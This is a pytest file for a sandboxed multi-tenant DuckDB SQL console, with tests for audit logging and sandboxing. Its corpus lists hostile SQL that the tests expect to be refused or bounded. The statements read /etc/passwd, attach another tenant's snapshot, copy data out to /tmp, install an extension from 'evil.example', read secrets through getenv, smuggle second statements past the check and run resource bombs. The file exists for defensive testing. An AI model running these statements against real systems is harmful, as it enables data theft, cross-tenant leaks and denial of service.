"""The SQL console's attack corpus: every statement below is refused (by the parser check or by the engine) or
bounded (time or row limit), and leaves exactly one audit row saying so. Runs on two tiny snapshots shaped like
the serving ones (the ministry's holds a marker the province's console must never return).

Then defence in depth: the same attacks sent straight to the sandboxed engine, skipping the statement check,
are refused by DuckDB itself (external access off, configuration locked, read-only)."""

from __future__ import annotations

import sqlite3

import duckdb
import pytest

from pipelines.access import console, console_worker
from pipelines.access.audit import AuditLog
from pipelines.access.console import Limits, run_query

LIMITS = Limits(rows=100, seconds=1.0, memory="256MB", threads=2)
OTHER = "{ministry}"  # replaced by the other tenant's snapshot path

R, T, B = "refused", "timeout", "truncated"
CORPUS = [
    # --- file reads, by function or by replacement scan -----------------------------------------------------
    ("read_csv", "SELECT * FROM read_csv('/etc/passwd')", R, "function_not_allowed: read_csv"),
    ("read_csv_auto", "SELECT * FROM read_csv_auto('/etc/passwd', header=false)", R, "function_not_allowed"),
    ("read_parquet", "SELECT * FROM read_parquet('/tmp/*.parquet')", R, "function_not_allowed: read_parquet"),
    ("parquet_scan", "SELECT * FROM parquet_scan('x.parquet')", R, "function_not_allowed"),
    ("read_json", "SELECT * FROM read_json('/etc/hosts')", R, "function_not_allowed: read_json"),
    ("read_text", "SELECT content FROM read_text('/etc/hostname')", R, "function_not_allowed: read_text"),
    ("read_blob", "SELECT * FROM read_blob('/etc/hostname')", R, "function_not_allowed: read_blob"),
    ("glob", "SELECT * FROM glob('/*')", R, "function_not_allowed: glob"),
    ("sniff_csv", "SELECT * FROM sniff_csv('/etc/passwd')", R, "function_not_allowed"),
    ("scan_string_path", "SELECT * FROM '/etc/passwd'", R, "file_access"),
    ("scan_quoted_ident", 'SELECT * FROM "/etc/passwd"', R, "file_access"),
    ("scan_relative_csv", "SELECT * FROM 'secrets.csv'", R, "file_access"),
    ("other_tenant_path", f"SELECT * FROM '{OTHER}'", R, "file_access"),
    ("other_tenant_in_subquery", f"SELECT (SELECT count(*) FROM '{OTHER}') AS n", R, "file_access"),
    ("query_fn", "SELECT * FROM query('SELECT 42')", R, "function_not_allowed: query"),
    ("query_table_fn", "SELECT * FROM query_table('marts.ho_so')", R, "function_not_allowed: query_table"),
    ("read_in_cte", "WITH x AS (SELECT * FROM read_csv('/etc/passwd')) SELECT * FROM x", R, "function_not_allowed"),
    ("read_in_lateral", "SELECT * FROM marts.ho_so, LATERAL (SELECT * FROM glob('/*')) g", R, "function_not_allowed"),
    # --- attach / other catalogues --------------------------------------------------------------------------
    ("attach_other_tenant", f"ATTACH '{OTHER}' AS m (READ_ONLY)", R, "not_select: ATTACH"),
    ("detach", "DETACH serving", R, "not_select"),
    ("use_memory", "USE memory", R, "not_select"),
    ("memory_catalog", "SELECT * FROM memory.main.t", R, "catalog_not_allowed: memory"),
    ("temp_catalog", "SELECT * FROM temp.main.t", R, "catalog_not_allowed: temp"),
    ("databases_fn", "SELECT path FROM duckdb_databases()", R, "function_not_allowed: duckdb_databases"),
    # --- writes ------------------------------------------------------------------------------------------------
    ("copy_to", "COPY marts.ho_so TO '/tmp/leak.csv'", R, "not_select: COPY"),
    ("copy_query_to", "COPY (SELECT * FROM marts.ho_so) TO '/tmp/leak.parquet' (FORMAT parquet)", R, "not_select"),
    ("export", "EXPORT DATABASE '/tmp/leak'", R, "not_select: EXPORT"),
    ("create_table", "CREATE TABLE x AS SELECT 1", R, "not_select: CREATE"),
    ("create_temp", "CREATE TEMP TABLE x AS SELECT 1", R, "not_select: CREATE"),
    ("create_secret", "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')", R, "not_select"),
    ("insert", "INSERT INTO marts.ho_so VALUES (1, 'x', true, 'y')", R, "not_select: INSERT"),
    ("update", "UPDATE marts.ho_so SET qua_han = false", R, "not_select: UPDATE"),
    ("delete", "DELETE FROM marts.ho_so", R, "not_select: DELETE"),
    ("drop", "DROP TABLE marts.ho_so", R, "not_select: DROP"),
    ("checkpoint", "CHECKPOINT", R, "not_select"),
    # --- extensions -----------------------------------------------------------------------------------------------
    ("install", "INSTALL httpfs", R, "not_select"),
    ("force_install", "FORCE INSTALL httpfs FROM 'http://evil.example'", R, "not_select"),
    ("load", "LOAD httpfs", R, "not_select"),
    ("load_path", "LOAD '/tmp/evil.duckdb_extension'", R, "not_select"),
    # --- settings and secrets -------------------------------------------------------------------------------------
    ("set_external", "SET enable_external_access = true", R, "not_select: SET"),
    ("reset_lock", "RESET lock_configuration", R, "not_select"),
    ("pragma", "PRAGMA database_list", R, "not_select: PRAGMA"),
    ("call", "CALL pragma_version()", R, "not_select: CALL"),
    ("explain_analyze", "EXPLAIN ANALYZE SELECT 1", R, "not_select: EXPLAIN"),
    ("getenv", "SELECT getenv('TONGHOP_PII_KEY')", R, "function_not_allowed: getenv"),
    ("current_setting", "SELECT current_setting('temp_directory')", R, "function_not_allowed: current_setting"),
    ("settings_fn", "SELECT * FROM duckdb_settings()", R, "function_not_allowed"),
    ("secrets_fn", "SELECT * FROM duckdb_secrets()", R, "function_not_allowed"),
    # --- several statements, comments and quoting -----------------------------------------------------------
    ("two_selects", "SELECT 1; SELECT 2", R, "several_statements"),
    ("select_then_drop", "SELECT 1; DROP TABLE marts.ho_so", R, "several_statements"),
    ("block_comment", "SELECT 1 /* harmless */; INSTALL httpfs", R, "several_statements"),
    ("line_comment", "SELECT 1 -- comment\n; ATTACH '/tmp/x.duckdb'", R, "several_statements"),
    ("comment_first", "/* SELECT */ COPY marts.ho_so TO '/tmp/x.csv'", R, "not_select: COPY"),
    ("quoted_semicolon", "SELECT 'a;'';b'; LOAD httpfs", R, "several_statements"),
    ("dollar_quoted", "SELECT $$;$$ AS s; INSTALL httpfs", R, "several_statements"),
    ("ident_semicolon", 'SELECT 1 AS "x;y"; SET threads = 64', R, "several_statements"),
    # --- unicode tricks -------------------------------------------------------------------------------------------
    ("zero_width", "SEL\u200bECT * FROM read_csv('/etc/passwd')", R, "invisible_chars"),
    ("rtl_override", "SELECT 1 -- \u202e ;daol\nLOAD httpfs", R, "invisible_chars"),
    ("nul_byte", "SELECT 1\x00; DROP TABLE marts.ho_so", R, "invisible_chars"),
    ("bom", "\ufeffSELECT 1; INSTALL httpfs", R, "invisible_chars"),
    ("fullwidth_semicolon", "SELECT 1\uff1b DROP TABLE marts.ho_so", R, "parse_error"),
    ("homoglyph_select", "\u0421ELECT * FROM marts.ho_so", R, "parse_error"),
    ("fullwidth_keyword", "\uff33\uff25\uff2c\uff25\uff23\uff34 1", R, "parse_error"),
    # --- bombs: bounded -----------------------------------------------------------------------------------------
    ("recursive_cte", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r", T,
     "timeout"),
    ("cross_join_count", "SELECT count(*) FROM range(1000000000) a, range(1000000000) b", (T, R), None),
    ("cross_join_rows", "SELECT * FROM marts.ho_so a, marts.ho_so b, marts.ho_so c", B, None),
    ("series_rows", "SELECT * FROM generate_series(1, 1000000000000)", B, None),
    ("string_bomb", "SELECT length(string_agg(repeat('x', 10000), '')) FROM range(100000000)", (T, R), None),
    ("one_huge_string", "SELECT length(repeat('x', 2000000000)) AS n", (T, R), None),  # outside memory_limit
]


@pytest.fixture(scope="module")
def corpus_audit(tmp_path_factory):
    """One audit log for the whole corpus (each attempt is found by its id)."""
    return AuditLog(tmp_path_factory.mktemp("corpus_audit") / "audit.sqlite")


@pytest.mark.parametrize(("case", "sql", "status", "reason"), CORPUS, ids=[c[0] for c in CORPUS])
def test_attack_is_refused_or_bounded_and_audited(two_snapshots, corpus_audit, case, sql, status, reason):
    _, province, ministry = two_snapshots
    sql = sql.replace(OTHER, str(ministry))
    before = corpus_audit.recent("console", limit=1)
    console_worker.prewarm(wait=True)  # a bomb's killed worker is replaced: time the statement, not a start
    result = run_query(sql, user="analyst.a", tenant="ninh-binh", snapshot=province, limits=LIMITS,
                       audit=corpus_audit)
    statuses = status if isinstance(status, tuple) else (status,)
    assert result.status in statuses, (result.status, result.reason, result.detail)
    if reason is not None:
        assert f"{result.reason}: {result.detail}".startswith(reason) or result.reason == reason, \
            (result.reason, result.detail)
    elif result.status != B:  # a bomb stopped by a bound: the time or the memory limit
        assert result.reason in ("timeout", "memory"), (result.reason, result.detail)
    if result.status == B:
        assert result.rows == LIMITS.rows and len(result.frame) == LIMITS.rows
    if result.frame is not None:
        assert "BO-SECRET-MARKER" not in result.frame.to_csv()
    if result.status == T:
        # stopped by the worker's interrupt timer, or killed by the server a grace period later
        assert result.duration_ms < (LIMITS.seconds + console_worker.GRACE_S + 1.5) * 1000
    assert result.message("vi") or result.status == B  # refusals carry a sentence for the page
    # Exactly one new audit row for the attempt, saying what happened.
    rows = corpus_audit.recent("console", limit=2)
    assert rows[0]["id"] == result.audit_id == (before[0]["id"] + 1 if before else 1)
    row = rows[0]
    assert (row["user"], row["tenant"], row["status"], row["rows"]) == ("analyst.a", "ninh-binh", result.status,
                                                                         result.rows)
    assert row["sql"] == sql[: console.MAX_SQL_CHARS]
    assert row["reason"] == (None if result.reason is None else
                             f"{result.reason}: {result.detail}" if result.detail else result.reason)


def test_corpus_is_large_enough():
    assert len(CORPUS) >= 40
    assert len({c[0] for c in CORPUS}) == len(CORPUS)


def test_secrets_in_console_sql_are_redacted_in_the_audit(two_snapshots):
    _, province, _ = two_snapshots
    sql = "SELECT 'postgresql://nb_user:Very5ecretPw@10.0.0.5:5432/motcua' AS dsn, 'password=Other5ecret1' AS x"
    result = run_query(sql, user="analyst.a", tenant="ninh-binh", snapshot=province, limits=LIMITS)
    assert result.status == "ok"
    stored = AuditLog().recent("console")[0]["sql"]
    assert "Very5ecretPw" not in stored and "Other5ecret1" not in stored and "nb_user" in stored


def test_a_legitimate_query_answers_from_the_tenants_snapshot_only(two_snapshots):
    _, province, _ = two_snapshots
    result = run_query("SELECT don_vi, ma_xa, count(*) AS n, count(*) FILTER (WHERE qua_han) AS qua_han "
                       "FROM marts.ho_so GROUP BY ALL ORDER BY ma_xa", user="a", tenant="ninh-binh",
                       snapshot=province, limits=LIMITS)
    assert result.status == "ok" and result.rows == 50
    assert set(result.frame["don_vi"]) == {"tinh"}
    with duckdb.connect(str(province), read_only=True) as con:
        expected = con.execute("SELECT ma_xa, count(*) FROM marts.ho_so GROUP BY 1 ORDER BY 1").fetchall()
    assert list(zip(result.frame["ma_xa"], result.frame["n"], strict=True)) == expected


ENGINE_ATTACKS = [
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM '{ministry}'",
    "ATTACH '{ministry}' AS m (READ_ONLY)",
    "COPY (SELECT 1) TO '/tmp/tonghop_console_leak.csv'",
    "INSTALL httpfs",
    "LOAD httpfs",
    "SET enable_external_access = true",
    "SET memory_limit = '100GB'",
    "SET lock_configuration = false",
    "CREATE TABLE marts.x AS SELECT 1",
    "SELECT * FROM glob('/*')",
]


@pytest.mark.parametrize("sql", ENGINE_ATTACKS)
def test_the_engine_refuses_even_without_the_statement_check(two_snapshots, sql):
    _, province, ministry = two_snapshots
    con = console.sandbox(province, LIMITS)
    try:
        with pytest.raises(duckdb.Error) as err:
            con.execute(sql.replace("{ministry}", str(ministry))).fetchall()
        assert isinstance(err.value, duckdb.PermissionException | duckdb.InvalidInputException), err.value
        assert con.execute("SELECT current_setting('enable_external_access'), "
                           "current_setting('lock_configuration')").fetchone() == (False, True)
    finally:
        con.close()


def test_the_audit_log_is_append_only_and_chained(two_snapshots):
    _, province, _ = two_snapshots
    for sql in ("SELECT 1", "INSTALL httpfs", "SELECT count(*) FROM marts.ho_so"):
        run_query(sql, user="a", tenant="ninh-binh", snapshot=province, limits=LIMITS)
    log = AuditLog()
    assert log.verify() == (True, None)
    con = sqlite3.connect(log.path)
    for statement in ("UPDATE events SET status = 'ok'", "DELETE FROM events"):
        with pytest.raises(sqlite3.DatabaseError, match="append-only"):
            con.execute(statement)
    # Someone with the file and a SQLite shell drops the trigger and rewrites a refusal: the chain shows it.
    con.execute("DROP TRIGGER events_no_update")
    con.execute("UPDATE events SET status = 'ok' WHERE sql = 'INSTALL httpfs'")
    con.commit()
    con.close()
    assert log.verify()[0] is False
